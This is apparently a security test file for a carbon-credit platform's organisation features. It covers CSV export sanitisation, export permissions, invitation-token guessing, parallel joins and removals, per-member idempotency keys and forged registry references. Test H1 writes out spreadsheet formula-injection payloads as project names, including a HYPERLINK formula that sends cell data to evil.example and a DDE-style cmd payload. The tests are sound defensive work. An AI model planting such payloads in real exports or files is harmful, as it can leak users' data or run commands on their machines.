// An attacker's second pass over organisations (docs/product.md#organisations): the activity export read
// by a spreadsheet (cells a spreadsheet would run), who may export, invitations read and joined 40 times at
// once, members removed 40 times at once, and Idempotency-Keys scoped per person (decision 0040). Real
// server, real HTTP. H* probes are attacks the code withstands.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PATHS } from '../../src/shared/api';
import { inviteToken, addMember, expectOrgRefused, GENEROUS, makeOrg, ORG_PASSWORD, orgSnapshot, TRADE_PASSWORD, write } from './org-helpers';
import { refusal, startTestServer, type TestServer } from '../helpers/server';
import { makeProject, makeUser, newKey, topup } from './market-helpers';
import { makeRetirableProject } from './retire-helpers';

let s: TestServer;
beforeAll(async () => {
  s = await startTestServer({ ...GENEROUS, ORG_INVITES_PER_ACCOUNT_PER_HOUR: '1000' });
});
afterAll(async () => {
  await s?.close();
});

async function csvRows(token: string, lang: 'en' | 'cn'): Promise<string[][]> {
  const res = await s.raw('GET', PATHS.orgActivityCsv, { headers: { Authorization: token }, query: `lang=${lang}` });
  expect(res.headers.get('content-type')).toContain('text/csv');
  return parse(new TextDecoder().decode(new Uint8Array(await res.arrayBuffer())), { bom: true }) as string[][];
}

describe('H the activity export', () => {
  it('H1: no cell starts with = + - @, a tab or a carriage return, whatever the project or member is called (en, cn)', async () => {
    const org = await makeOrg(s, 'Formula Pte Ltd');
    await topup(s, org.id, 1_000_000);
    const pid = await makeProject(s, { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', name_cn: '@SUM(1+1)*cmd|"/C calc"!A0' });
    const tabbed = await makeProject(s, { name: '\t=1+1', name_cn: '\r-1+1' });
    const bought = await write(s, PATHS.orderBuy, org.owner.token, { project_id: pid, tons: 2, password: ORG_PASSWORD });
    expect(bought.code, bought.msg).toBe(0);
    expect((await write(s, PATHS.orderBuy, org.owner.token, { project_id: tabbed, tons: 1, password: ORG_PASSWORD })).code).toBe(0);
    for (const email of ['-2+3@example.sg', '+cmd@example.sg']) {
      const inv = await write(s, PATHS.orgInvite, org.owner.token, { email, role: 'viewer' });
      expect(inv.code, inv.msg).toBe(0);
    }
    for (const lang of ['en', 'cn'] as const) {
      const rows = await csvRows(org.owner.token, lang);
      expect(rows.length).toBeGreaterThan(4);
      for (const cell of rows.flat()) expect(cell, `cell ${JSON.stringify(cell)} (${lang})`).not.toMatch(/^[=+\-@\t\r]/);
      // Neutralised, not dropped: the reader still sees the name.
      expect(rows.flat()).toContain(lang === 'en' ? `'=HYPERLINK("http://evil.example/?x="&A1,"click")` : `'@SUM(1+1)*cmd|"/C calc"!A0`);
      expect(rows.flat()).toContain(`'-2+3@example.sg`);
    }
  });

  it('H2: a visitor, a person outside the organisation, a buyer, an approver and a viewer export nothing (en, cn)', async () => {
    const org = await makeOrg(s, 'Export Roles Pte Ltd');
    const visitor = await s.api('POST', PATHS.visitor, {});
    const outsider = await makeUser(s);
    const get = (token: string, lang: 'en' | 'cn') => s.api('GET', PATHS.orgActivityCsv, {}, { token, lang });
    await expectOrgRefused(s, 'guest_forbidden', (lang) => get(visitor.data.token as string, lang));
    await expectOrgRefused(s, 'org_not_member', (lang) => get(outsider.token, lang));
    for (const role of ['buyer', 'approver', 'viewer']) {
      const m = await addMember(s, org, role);
      await expectOrgRefused(s, 'org_role_forbidden', (lang) => get(m.orgToken, lang));
    }
    const admin = await addMember(s, org, 'admin');
    expect((await csvRows(admin.orgToken, 'en'))[0]![0]).toBe('Date and time (SGT)');
  });
});

describe('F4 a purchase through an API key in the finance export', () => {
  it('F4: names its project, tons, S$ and order, and the key; a test key order is marked play money with no tons or S$ (en, cn)', async () => {
    const org = await makeOrg(s, 'Keyed Export Pte Ltd');
    await topup(s, org.id, 1_000_000);
    const pid = await makeProject(s, { name: 'Keyed Forest', name_cn: '密钥森林', price: 1000 });
    const key = async (mode: 'live' | 'test') => {
      const res = await s.api('POST', PATHS.developerKeys, { name: 'Shop', mode, scopes: ['buy'], password: ORG_PASSWORD }, { token: org.owner.token });
      expect(res.code, res.msg).toBe(0);
      return res.data as { key: string; prefix: string };
    };
    const order = async (k: string, tons: number) => {
      const res = await fetch(`${s.url}/v1/orders`, { method: 'POST', headers: { Authorization: `Bearer ${k}`, 'Content-Type': 'application/json', 'Idempotency-Key': newKey() }, body: JSON.stringify({ project_id: pid, tons }) });
      expect(res.status).toBe(201);
      return ((await res.json()) as { id: string }).id;
    };
    const live = await key('live');
    const test = await key('test');
    const liveId = await order(live.key, 2);
    const testId = await order(test.key, 3);
    const en = await csvRows(org.owner.token, 'en');
    expect(en.find((r) => r[6] === liveId)).toEqual([expect.any(String), `${org.email} (API key Shop (${live.prefix}))`, 'Bought credits with an API key', 'Keyed Forest', '2', '20.00', liveId]);
    expect(en.find((r) => r[6] === testId)).toEqual([expect.any(String), `${org.email} (API key Shop (${test.prefix}))`, 'Test order with a test key (play money)', 'Keyed Forest', '', '', testId]);
    expect(en.find((r) => r[3] === `Shop ${live.prefix}`)?.[2]).toBe('Made an API key');
    const cn = await csvRows(org.owner.token, 'cn');
    expect(cn.find((r) => r[6] === liveId)).toEqual([expect.any(String), `${org.email} (API 密钥 Shop (${live.prefix}))`, '通过 API 密钥购买碳信用', '密钥森林', '2', '20.00', liveId]);
    expect(cn.find((r) => r[6] === testId)?.slice(2)).toEqual(['测试密钥的测试订单（模拟资金）', '密钥森林', '', '', testId]);
  });
});

describe('H invitations and members under parallel requests', () => {
  it('H3: the invitation reads for a signed-in person only; a guessed, padded or prototype-named token reads nothing', async () => {
    const org = await makeOrg(s, 'Invite Read Pte Ltd');
    const u = await makeUser(s);
    expect((await write(s, PATHS.orgInvite, org.owner.token, { email: u.email, role: 'buyer' })).code).toBe(0);
    const token = await inviteToken(s, u.email);
    const visitor = await s.api('POST', PATHS.visitor, {});
    await expectOrgRefused(s, 'guest_forbidden', (lang) => s.api('GET', PATHS.orgInvitation, { token }, { token: visitor.data.token as string, lang }));
    for (const guess of [token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A'), 'A'.repeat(43), `${token} `.repeat(2).trim()]) {
      await expectOrgRefused(s, 'org_invite_invalid', (lang) => s.api('GET', PATHS.orgInvitation, { token: guess }, { token: u.token, lang }));
    }
    const proto = await s.raw('GET', PATHS.orgInvitation, { headers: { Authorization: u.token }, query: `__proto__=x&token=${token}` });
    expect(((await proto.json()) as { code: number }).code).toBe(refusal('invalid_request').code);
    const read = await s.api('GET', PATHS.orgInvitation, { token }, { token: u.token });
    expect(read.data).toMatchObject({ name: 'Invite Read Pte Ltd', role: 'buyer', email: u.email });
  });

  it('H4: 40 parallel joins with one link (each its own Idempotency-Key) make one member and one activity row', async () => {
    const org = await makeOrg(s, 'Join Race Pte Ltd');
    const u = await makeUser(s);
    expect((await write(s, PATHS.orgInvite, org.owner.token, { email: u.email, role: 'buyer' })).code).toBe(0);
    const token = await inviteToken(s, u.email);
    const joins = await Promise.all(Array.from({ length: 40 }, () => write(s, PATHS.orgJoin, u.token, { token })));
    expect(joins.filter((r) => r.code === 0)).toHaveLength(1);
    expect(joins.filter((r) => r.code !== 0).every((r) => r.code === refusal('org_invite_invalid').code)).toBe(true);
    expect(await s.db.selectFrom('organisation_members').select('user_id').where('account_id', '=', org.id).where('user_id', '=', u.id).execute()).toHaveLength(1);
    expect(await s.db.selectFrom('organisation_activity').select('id').where('account_id', '=', org.id).where('action', '=', 'org.join').execute()).toHaveLength(1);
    // Another person holding the link is refused as someone else's invitation, before or after.
    const other = await makeUser(s);
    const second = await makeUser(s);
    expect((await write(s, PATHS.orgInvite, org.owner.token, { email: second.email, role: 'viewer' })).code).toBe(0);
    const secondToken = await inviteToken(s, second.email);
    await expectOrgRefused(s, 'org_invite_email', (lang) => write(s, PATHS.orgJoin, other.token, { token: secondToken }, { lang }), { email: second.email });
  });

  it('H5: 40 parallel removals of one member with their own keys remove her once; 40 role changes leave one role', async () => {
    const org = await makeOrg(s, 'Remove Race Pte Ltd');
    const m = await addMember(s, org, 'buyer');
    const roles = await Promise.all(Array.from({ length: 40 }, (_, i) => write(s, PATHS.orgRole, org.owner.token, { user_id: m.id, role: i % 2 ? 'viewer' : 'approver' })));
    expect(roles.every((r) => r.code === 0)).toBe(true);
    const removals = await Promise.all(Array.from({ length: 40 }, () => write(s, PATHS.orgRemove, org.owner.token, { user_id: m.id })));
    expect(removals.filter((r) => r.code === 0)).toHaveLength(1);
    expect(removals.filter((r) => r.code !== 0).every((r) => r.code === refusal('org_member_not_found').code)).toBe(true);
    expect(await s.db.selectFrom('organisation_activity').select('id').where('account_id', '=', org.id).where('action', '=', 'org.remove').execute()).toHaveLength(1);
    // Her session for the organisation ended with the first removal.
    const after = await s.api('GET', PATHS.orgMembers, {}, { token: m.orgToken });
    expect(after.code).toBeLessThan(0);
  });

  it("H6: one Idempotency-Key is each member's own: a colleague's buy with it is her own order, a replay of another body is refused", async () => {
    const org = await makeOrg(s, 'Scopes Attack Pte Ltd');
    await topup(s, org.id, 1_000_000);
    const pid = await makeProject(s);
    const a = await addMember(s, org, 'buyer');
    const b = await addMember(s, org, 'buyer');
    const key = newKey();
    const [first, second, owners] = await Promise.all([
      write(s, PATHS.orderBuy, a.orgToken, { project_id: pid, tons: 1, password: TRADE_PASSWORD }, { key }),
      write(s, PATHS.orderBuy, b.orgToken, { project_id: pid, tons: 2, password: TRADE_PASSWORD }, { key }),
      write(s, PATHS.orderBuy, org.owner.token, { project_id: pid, tons: 3, password: ORG_PASSWORD }, { key }),
    ]);
    expect([first.code, second.code, owners.code]).toEqual([0, 0, 0]);
    expect(new Set([first.data.order_no, second.data.order_no, owners.data.order_no]).size).toBe(3);
    // Her own key with another body: refused, nothing changes.
    await expectOrgRefused(s, 'idempotency_mismatch', (lang) => write(s, PATHS.orderBuy, a.orgToken, { project_id: pid, tons: 5, password: TRADE_PASSWORD }, { key, lang }));
    const before = await orgSnapshot(s);
    // 40 parallel replays of her key: her first answer each time.
    const replays = await Promise.all(Array.from({ length: 40 }, () => write(s, PATHS.orderBuy, a.orgToken, { project_id: pid, tons: 1, password: TRADE_PASSWORD }, { key })));
    expect(new Set(replays.map((r) => r.data.order_no))).toEqual(new Set([first.data.order_no]));
    expect(await orgSnapshot(s)).toEqual(before);
  });
});

describe('H registry references are the operator\'s', () => {
  it('H7: a retirement carrying a registry reference or status is refused naming the field; no app path records a cancellation or imports blocks', async () => {
    const org = await makeOrg(s, 'Forger Pte Ltd');
    await topup(s, org.id, 1_000_000);
    const pid = await makeRetirableProject(s);
    const bought = await write(s, PATHS.orderBuy, org.owner.token, { project_id: pid, tons: 5, password: ORG_PASSWORD });
    expect(bought.code, bought.msg).toBe(0);
    for (const field of ['registry_reference', 'registry_status', 'registry_cancelled_on', 'registry_serials']) {
      await expectOrgRefused(s, 'invalid_request', (lang) => write(s, PATHS.creditRetire, org.owner.token, { project_id: pid, tons: 1, beneficiary: 'X', paypwd: ORG_PASSWORD, [field]: 'VCS-FORGED-1' }, { lang }));
    }
    for (const path of ['/api/registry/cancel', '/api/registry/import', '/api/registry/reconcile', '/api/retire/cancel', '/api/credit/cancel']) {
      const res = await s.raw('POST', path, { headers: { Authorization: org.owner.token, 'Content-Type': 'application/json', 'Idempotency-Key': newKey() }, body: JSON.stringify({ reference: 'VCS-FORGED-1' }) });
      expect(res.status, path).toBe(404);
    }
    expect(await s.db.selectFrom('registry_cancellations').select('reference').where('reference', '=', 'VCS-FORGED-1').execute()).toEqual([]);
  });
});
